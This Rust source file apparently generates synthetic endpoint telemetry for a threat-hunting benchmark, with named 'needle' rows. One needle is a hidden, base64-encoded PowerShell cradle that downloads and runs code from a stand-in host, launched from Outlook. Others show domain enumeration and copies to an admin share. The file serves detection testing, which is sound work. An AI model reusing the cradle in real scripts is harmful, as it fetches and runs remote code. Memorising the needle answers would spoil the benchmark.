//! What a large company has and the demo's does not: long tails, and a few things worth looking for.
//!
//! Thousands of programs that few devices have, in several versions; words, hashes and accounts seen a handful
//! of times; encoded scripts; fields as JSON. The rows to look for are listed at [`needles`], with how many
//! there are, so that a benchmark can ask for them by name.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::company::{DORMANT_ACCOUNTS, FEWEST_WORKSTATIONS};
use super::endpoint::{Connection, FileChange, Logon};
use super::process::{Account, Image, Process};
use super::programs::{self, PROGRAMS};
use super::random::Random;
use super::story::Scene;
use super::world::{Slot, World, fill};

/// Share of ten thousand rows for the tables that are written unless others are asked for.
const SHARES: [(&str, u64); 7] = [
    ("DeviceProcessEvents", 5_500),
    ("DeviceNetworkEvents", 2_200),
    ("DeviceFileEvents", 1_300),
    ("DeviceLogonEvents", 450),
    ("DeviceRegistryEvents", 400),
    ("DeviceEvents", 130),
    ("DeviceInfo", 20),
];
/// Rows for each workstation, so that fifteen million have a thousand devices and fifteen hundred people.
const ROWS_OF_A_WORKSTATION: u64 = 20_000;
/// As many programs have no name in [`PROGRAMS`].
const RARE_PROGRAMS: usize = 3_000;
/// As many words are made up for command lines.
const RARE_WORDS: u64 = 40_000;

/// In a command line, and part of no other word.
const RARE_TOOL: &str = "kerbsift";
/// A file that some devices ran.
const RARE_FILE: &str = "quillsync.exe";
/// Only ever part of a longer word.
const RARE_FRAGMENT: &str = "zephyrlock";
const RARE_IP: &str = "203.0.113.199";

/// Members of `AdditionalFields` of a connection.
pub(super) const CONNECTION_FIELDS: [&str; 4] = [
    r#""ConnectionId":"C{hex}","Direction":"Out","BytesSent":{num},"BytesReceived":{num}"#,
    r#""ConnectionId":"C{hex}","Direction":"Out","ServerName":"{word}.example","Tls":"TLSv1.3""#,
    r#""ConnectionId":"C{hex}","Direction":"In","BytesSent":{num}"#,
    r#""ConnectionId":"C{hex}","Direction":"Out","Proxy":{"Name":"{word}-proxy","Rule":"{rare}"},"BytesSent":{num}"#,
];
/// Members of `AdditionalFields` of a file event.
pub(super) const FILE_FIELDS: [&str; 4] = [
    r#""FileType":"Unknown""#,
    r#""FileType":"PortableExecutable","Entropy":{num}"#,
    r#""FileType":"Zip","Container":"{rare}","RequestId":"{guid}""#,
    r#""FileType":"Script","Interpreter":"{rare}""#,
];
/// Members of `AdditionalFields` of a started process.
pub(super) const PROCESS_FIELDS: [&str; 5] = [
    "",
    r#""InitiatingProcessTokenElevation":"TokenElevationTypeDefault""#,
    r#""PackageFamily":"{word}_{hex}","Container":"{guid}""#,
    r#""ScriptHash":"{hex}{hex}","Engine":"{rare}""#,
    r#""Job":{"Id":{num},"Queue":"{word}"},"Ticket":"{guid}""#,
];

/// Arguments of rare programs.
const ARGUMENTS: [&str; 8] = [
    "--service",
    r#"--config "C:\ProgramData\{rare}\{word}.json" --session {guid}"#,
    r"/update /channel:{rare} /token:{b64}",
    r#"--type=worker --instance={num} --pipe=\\.\pipe\{rare}.{hex} --log="C:\Users\{user}\AppData\Local\Temp\{hex}.log""#,
    r"-scan C:\Users\{user}\Documents\{word} -rule {rare},{rare},{rare} -id {guid}",
    r"run {rare} --sha256 {hex}{hex}{hex}{hex} --from https://{word}.example/{rare}/{num}",
    r"--tmp C:\Users\{user}\AppData\Local\Temp\tmp{hex}.tmp --retry {num}",
    r#""C:\Users\{user}\Downloads\{rare} {rare} ({num}).pdf""#,
];
/// What rare programs start: program and command line.
const HELPERS: [(&str, &str); 8] = [
    ("cmd.exe", r#"cmd.exe /d /s /c ""C:\ProgramData\{rare}\{rare}.cmd" {num} > "%TEMP%\{hex}.tmp" 2>&1""#),
    ("powershell.exe", "powershell.exe -NoProfile -NonInteractive -EncodedCommand {script}"),
    (
        "powershell.exe",
        r#"powershell.exe -ExecutionPolicy Bypass -Command "(Get-Item 'C:\ProgramData\{rare}\{rare}').LastWriteTime; exit {num}""#,
    ),
    ("rundll32.exe", r"rundll32.exe C:\ProgramData\{rare}\{hex}.dll,Register{word} {guid}"),
    ("reg.exe", r"reg add HKLM\SOFTWARE\{rare}\{rare} /v {word} /t REG_SZ /d {guid} /f"),
    ("schtasks.exe", r#"schtasks.exe /query /tn "\{rare}\{word}-{guid}" /fo csv"#),
    ("python.exe", r"python.exe -m {rare}.{word} --key {b64} --run {hex}"),
    ("net.exe", r"net use \\srv-{word}.kestrel.example\{rare} /user:{user}"),
];
const SUFFIXES: [&str; 10] =
    ["Agent", "Updater", "Helper", "Sync", "Svc", "Tray", "Launcher", "Monitor", "Client", "Setup"];

/// Workstations of a company that makes so many rows in a month: more than the demo's, so that it has the
/// dormant accounts.
pub(super) fn workstations(rows: u64) -> usize {
    ((rows / ROWS_OF_A_WORKSTATION) as usize).max(FEWEST_WORKSTATIONS + 1)
}

/// The share of a table if it is one of those of a large company.
pub(super) fn share(table: &str) -> Option<u64> {
    SHARES.iter().find(|(name, _)| *name == table).map(|(_, share)| *share)
}

/// Images by program and version: those of [`PROGRAMS`], then the rare ones.
pub(super) fn images(seed: u64) -> Vec<Vec<Image>> {
    let known = PROGRAMS.iter().map(|program| {
        let mut random = Random::of(seed, "versions", &[program.size as u64]);
        // An unsigned program is one file: hunts follow it by its hash.
        let more = if program.signer.is_empty() { 0 } else { random.below(8) };
        let first = Image::new(seed, program);
        let others = (0..more).map(|version| first.version(seed, version + 1)).collect::<Vec<_>>();
        std::iter::once(first).chain(others).collect()
    });
    known.chain((0..RARE_PROGRAMS).map(|at| rare_images(seed, at))).collect()
}

fn rare_images(seed: u64, at: usize) -> Vec<Image> {
    let mut random = Random::of(seed, "rare program", &[at as u64]);
    let (vendor, name) = (capital(&word_of(random.below(RARE_WORDS))), capital(&word_of(at as u64)));
    let folder = match random.skewed(4) {
        0 => format!(r"C:\Program Files\{vendor}\{name}"),
        1 => format!(r"C:\Users\{{user}}\AppData\Local\{vendor}\{name}"),
        2 => format!(r"C:\Program Files (x86)\{vendor} {name}"),
        _ => format!(r"C:\ProgramData\{vendor}\{name}\bin"),
    };
    let first = Image::rare(seed, &format!("{name}{}.exe", random.pick(&SUFFIXES)), folder, &vendor, &mut random);
    let more = random.skewed(4);
    let others = (0..more).map(|version| first.version(seed, version + 1)).collect::<Vec<_>>();
    std::iter::once(first).chain(others).collect()
}

/// Four processes of which most are rare programs; a step is a program, its arguments, and its parent's step.
pub(super) struct RareBurst {
    pub(super) root: &'static str,
    pub(super) as_system: bool,
    pub(super) steps: [(usize, &'static str, usize); 4],
}

/// What happens instead of a frequent burst, in a third of all cases.
pub(super) fn rare_burst(world: &World, burst: Slot) -> Option<RareBurst> {
    let mut random = world.random("rare burst", burst);
    if !random.percent(35) {
        return None;
    }
    let as_system = random.percent(40);
    let mut rare = |parent| (PROGRAMS.len() + random.skewed(RARE_PROGRAMS as u64) as usize, "", parent);
    let (first, second) = (rare(0), rare(0));
    let (file, command_line) = *random.pick_skewed(&HELPERS);
    let steps = [
        (first.0, *random.pick_skewed(&ARGUMENTS), 0),
        (programs::position(file), command_line, 0),
        (programs::position("conhost.exe"), r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", 1),
        (second.0, *random.pick(&ARGUMENTS), random.below(2) as usize),
    ];
    Some(RareBurst { root: if as_system { "services.exe" } else { "explorer.exe" }, as_system, steps })
}

/// A made-up word, the first far more often than the last.
pub(super) fn rare_word(random: &mut Random) -> String {
    word_of(random.skewed(RARE_WORDS))
}

/// Words of three or four syllables; no two numbers make the same one.
fn word_of(number: u64) -> String {
    const STARTS: [&str; 16] = ["b", "d", "f", "g", "k", "l", "m", "n", "p", "r", "s", "t", "v", "z", "br", "tr"];
    const ENDS: [&str; 8] = ["a", "e", "i", "o", "u", "an", "er", "il"];
    let mut rest = number.wrapping_mul(0x9E35) % 0x1_0000 + ((number / 0x1_0000) << 16);
    let mut word = String::new();
    for _ in 0..3 {
        word.push_str(STARTS[(rest % 16) as usize]);
        word.push_str(ENDS[(rest / 16 % 8) as usize]);
        rest /= 128;
    }
    word
}

fn capital(word: &str) -> String {
    word[..1].to_uppercase() + &word[1..]
}

/// A short script in UTF-16 and base64, as PowerShell takes it.
pub(super) fn encoded_script(random: &mut Random) -> String {
    let script = format!(
        "Get-{} -Path 'C:\\ProgramData\\{}\\{}' | Out-File $env:TEMP\\{}.log",
        capital(&rare_word(random)),
        rare_word(random),
        random.guid(),
        random.hex(8)
    );
    encode(&script)
}

/// UTF-16 in base64.
fn encode(script: &str) -> String {
    STANDARD.encode(script.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

/// The rows to look for, spread over the whole time:
///
/// | what | table | rows |
/// |---|---|---|
/// | `kerbsift` as a word of the command line | `DeviceProcessEvents` | 11 |
/// | `zephyrlock` inside a word of the command line | `DeviceProcessEvents` | 9 |
/// | `quillsync.exe`, one hash everywhere | `DeviceProcessEvents`, `DeviceFileEvents` | 23, 4 |
/// | account `svc.legacyscan` | `DeviceProcessEvents` | 37 |
/// | address `203.0.113.199` | `DeviceNetworkEvents`, `DeviceLogonEvents` | 41, 6 |
/// | encoded PowerShell that begins `IEX` | `DeviceProcessEvents` | 19, and the intrusion's |
pub(super) fn needles(world: &World) -> Vec<Scene> {
    let mut hiding = Hiding { world, random: Random::of(world.seed, "needles", &[]), scenes: Vec::new() };
    for _ in 0..11 {
        let line = format!(
            r"cmd.exe /c C:\Users\Public\{RARE_TOOL}.exe enum --domain kestrel.example -o C:\Users\Public\{{hex}}.txt"
        );
        hiding.starts("explorer.exe", "cmd.exe", &line, None);
    }
    for _ in 0..9 {
        let line = format!(r"cmd.exe /c copy C:\Windows\Temp\bk{RARE_FRAGMENT}{{num}}.bin \\srv-file01\c$\Temp");
        hiding.starts("explorer.exe", "cmd.exe", &line, None);
    }
    for _ in 0..23 {
        hiding.starts("services.exe", RARE_FILE, r#""C:\ProgramData\Quill\quillsync.exe" -k {guid}"#, None);
    }
    for _ in 0..4 {
        hiding.drops();
    }
    for _ in 0..37 {
        let line = r"cmd.exe /c robocopy D:\{word} E:\{word} /mir /log:C:\Windows\Temp\{hex}.log";
        hiding.starts("services.exe", "cmd.exe", line, Some(DORMANT_ACCOUNTS[0]));
    }
    for _ in 0..19 {
        let script = encode("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/x')");
        let line = format!("powershell.exe -w hidden -nop -enc {script}");
        hiding.starts("OUTLOOK.EXE", "powershell.exe", &line, None);
    }
    for _ in 0..41 {
        hiding.connects();
    }
    for _ in 0..6 {
        hiding.logs_on();
    }
    hiding.scenes
}

struct Hiding<'w> {
    world: &'w World,
    random: Random,
    scenes: Vec<Scene>,
}

impl Hiding<'_> {
    fn moment(&mut self) -> i64 {
        let calendar = &self.world.calendar;
        let day = self.random.below(u64::from(calendar.days())) as u32;
        calendar.midnight(day) + self.random.below(86_000_000_000) as i64
    }

    fn starts(&mut self, parent: &str, file: &str, template: &str, account: Option<&str>) {
        let at = self.moment();
        let device = self.random.below(self.world.company.workstations as u64) as usize;
        let starter = Process::resident_named(self.world, device, parent);
        let account = account.map_or(starter.account, |name| Account::User(self.world.company.account(name)));
        let line = fill(template, starter.account_name(self.world), &mut self.random);
        let started = starter.child(file, line, account, at, self.random.next());
        let write = Box::new(move |world: &World, row: &mut _| started.write_created(world, &starter, row));
        self.scenes.push(Scene { table: "DeviceProcessEvents", at, write });
    }

    fn drops(&mut self) {
        let (at, process) = (self.moment(), Process::some_resident(self.world, &mut self.random));
        let write = Box::new(move |world: &World, row: &mut _| {
            let (action, folder) = ("FileCreated", r"C:\ProgramData\Quill");
            FileChange { action, name: RARE_FILE, folder, size: 311_296, origin: "" }.write(world, &process, row);
        });
        self.scenes.push(Scene { table: "DeviceFileEvents", at, write });
    }

    fn connects(&mut self) {
        let (at, process) = (self.moment(), Process::some_resident(self.world, &mut self.random));
        let local_port = 50_000 + self.random.below(10_000) as i64;
        let write = Box::new(move |world: &World, row: &mut _| {
            let (action, ip, port, url) = ("ConnectionSuccess", RARE_IP, 8443, "");
            Connection { action, ip, port, url, local_port }.write(world, &process, row);
        });
        self.scenes.push(Scene { table: "DeviceNetworkEvents", at, write });
    }

    fn logs_on(&mut self) {
        let at = self.moment();
        let user = self.random.below(self.world.company.workstations as u64) as usize;
        let handler = Process::resident_named(self.world, self.world.company.workstations, "lsass.exe");
        let write = Box::new(move |world: &World, row: &mut _| {
            let (action, kind, protocol) = ("LogonFailed", "RemoteInteractive", "NTLM");
            Logon { action, kind, user, protocol, from_device: "", from_ip: RARE_IP }.write(world, &handler, row);
        });
        self.scenes.push(Scene { table: "DeviceLogonEvents", at, write });
    }
}

#[cfg(test)]
mod tests {
    use super::super::world::fill_fields;
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn words_differ() {
        let words: BTreeSet<_> = (0..RARE_WORDS).map(word_of).collect();
        assert_eq!(words.len() as u64, RARE_WORDS);
    }

    #[test]
    fn templates_are_filled_in() {
        let mut random = Random::of(1, "test", &[]);
        for template in ARGUMENTS.into_iter().chain(HELPERS.map(|(_, template)| template)) {
            assert!(!fill(template, "ada", &mut random).contains(['{', '}']), "{template}");
        }
        for members in [&CONNECTION_FIELDS[..], &FILE_FIELDS, &PROCESS_FIELDS].concat() {
            let text = fill_fields(members, &mut random);
            serde_json::from_str::<serde_json::Value>(&text).unwrap_or_else(|error| panic!("{text}: {error}"));
        }
    }

    #[test]
    fn scripts_are_encoded_as_powershell_takes_them() {
        // `[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('IEX'))`
        for (script, encoded) in
            [("IEX", "SQBFAFgA"), ("dir", "ZABpAHIA"), ("ls", "bABzAA=="), ("pwd;", "cAB3AGQAOwA=")]
        {
            assert_eq!(encode(script), encoded);
        }
    }
}
